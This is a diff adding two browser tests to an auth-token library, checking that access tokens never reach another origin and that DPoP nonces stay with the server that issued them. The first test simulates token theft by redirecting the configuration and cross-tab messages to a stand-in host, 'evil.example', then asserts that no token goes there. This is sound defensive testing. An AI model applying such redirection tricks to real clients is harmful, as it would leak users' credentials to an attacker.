@@ -196,3 +196,66 @@ rule('rule 11: a page with a strict Content-Security-Policy works, without worke
   assert.equal(status, 200);
   assert.deepEqual(said, [], 'the browser reports no violation');
 });
+
+rule('rule 11: what a script does afterwards, to the configuration or by a message, lets no other origin have the token (J8)', async ({ page, open }) => {
+  const other = await open();
+  await page.evaluate(async () => {
+    window.tokens = {};
+    window.config = {
+      baseUrl: 'https://api.ok/',
+      attachTo: ['https://api.ok'],
+      refresh: { url: 'https://api.ok/refresh' },
+      refreshToken: { in: 'body' },
+      proactive: false,
+      fetch: async (input, init) => {
+        const { url, headers } = new Request(input, init);
+        const text = typeof init?.body === 'string' ? init.body : '';
+        tokens[url] = Boolean(headers.get('authorization')) || /first|second/.test(text);
+        return kit.answer({ accessToken: 'at-second', refreshToken: 'rt-second', expiresIn: 600 });
+      },
+    };
+    await kit.create(config);
+    await auth.setTokens({ accessToken: 'at-first', refreshToken: 'rt-first', expiresIn: 600 });
+    config.attachTo.push('https://evil.example');
+    config.attachTo[0] = 'https://evil.example';
+    config.baseUrl = 'https://evil.example/';
+    config.refresh.url = 'https://evil.example/refresh';
+    window.postMessage({ kind: 'here', attachTo: ['https://evil.example'] }, '*');
+  });
+  await other.evaluate(() => {
+    const channel = new BroadcastChannel('evertoken:evertoken');
+    const attachTo = ['https://evil.example'];
+    for (const message of [{ attachTo }, { kind: 'here', from: 'x', attachTo, record: JSON.stringify({ v: 1, attachTo, baseUrl: attachTo[0] }) }]) channel.postMessage(message);
+    channel.close();
+  });
+  const tokens = await page.evaluate(async () => {
+    for (const url of ['/a', 'https://evil.example/a']) await auth.fetch(url);
+    await auth.refresh();
+    return tokens;
+  });
+  assert.deepEqual(tokens, { 'https://api.ok/a': true, 'https://evil.example/a': false, 'https://api.ok/refresh': true });
+});
+
+rule('rule 11: DPoP is not spoken: a nonce that one server gives goes to no other, and each is asked twice at most (J7)', async ({ page }) => {
+  const calls = await page.evaluate(async () => {
+    const calls = [];
+    await kit.create({
+      baseUrl: 'https://one.ok/',
+      attachTo: ['https://one.ok', 'https://two.ok'],
+      refreshToken: { in: 'body' },
+      fetch: async (input, init) => {
+        const { url, headers } = new Request(input, init);
+        calls.push([url, headers.has('dpop'), [...headers.values()].some((value) => value.includes('nonce'))]);
+        if (url.endsWith('/refresh')) return kit.answer({ accessToken: 'at-2', refreshToken: 'rt-2', expiresIn: 600 });
+        const nonce = `nonce-of-${new URL(url).host}`;
+        return kit.answer({ error: 'use_dpop_nonce' }, { status: 401, headers: { 'dpop-nonce': nonce, 'www-authenticate': 'DPoP error="use_dpop_nonce"' } });
+      },
+    });
+    await auth.setTokens({ accessToken: 'at-1', refreshToken: 'rt-1', expiresIn: 600 });
+    await Promise.all(['https://one.ok/a', 'https://two.ok/a'].map((url) => auth.fetch(url)));
+    return calls;
+  });
+  const times = (url) => calls.filter(([called]) => called === url).length;
+  assert.deepEqual(['https://one.ok/a', 'https://two.ok/a', 'https://one.ok/refresh'].map(times), [2, 2, 1]);
+  assert.ok(calls.every(([, dpop, nonce]) => !dpop && !nonce), JSON.stringify(calls));
+});
